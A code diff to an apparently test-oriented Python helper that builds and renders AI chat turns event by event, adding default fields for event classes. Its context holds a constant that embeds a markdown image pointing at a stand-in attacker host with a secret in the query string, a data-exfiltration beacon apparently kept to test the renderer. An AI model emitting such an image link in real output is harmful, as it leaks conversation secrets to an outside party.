@@ -26,6 +26,10 @@ from lesson_lib.turn.events import (
 BEACON = "![x](https://attacker.example/?q=SECRET)"
 
 
+DEFAULTS = {BlockStarted: {"step": 1}, ErrorReported: {"step": 1, "scope": "provider"},
+            StepFinished: {"ended": "proper"}, ToolExecutionFinished: {"status": "ok"}}
+
+
 class Turn:
     """A turn built event by event, drawn after each one."""
 
@@ -34,10 +38,12 @@ class Turn:
         self.drawer = Drawer(**options)
         self.n = 0
         self.drawings = []
-        self.add(TurnStarted, t=0.0)
+        self.add(TurnStarted, turn="turn", t=0.0)
         self.add(StepStarted, step=1, wire="anthropic-messages", t=0.0)
 
     def add(self, cls, now_ms=None, **fields):
+        for name, value in DEFAULTS.get(cls, {}).items():     # identity fields are required
+            fields.setdefault(name, value)
         self.state = reduce(self.state, cls(self.n, **fields))
         self.n += 1
         drawing = self.drawer.draw(self.state, now_ms=now_ms)
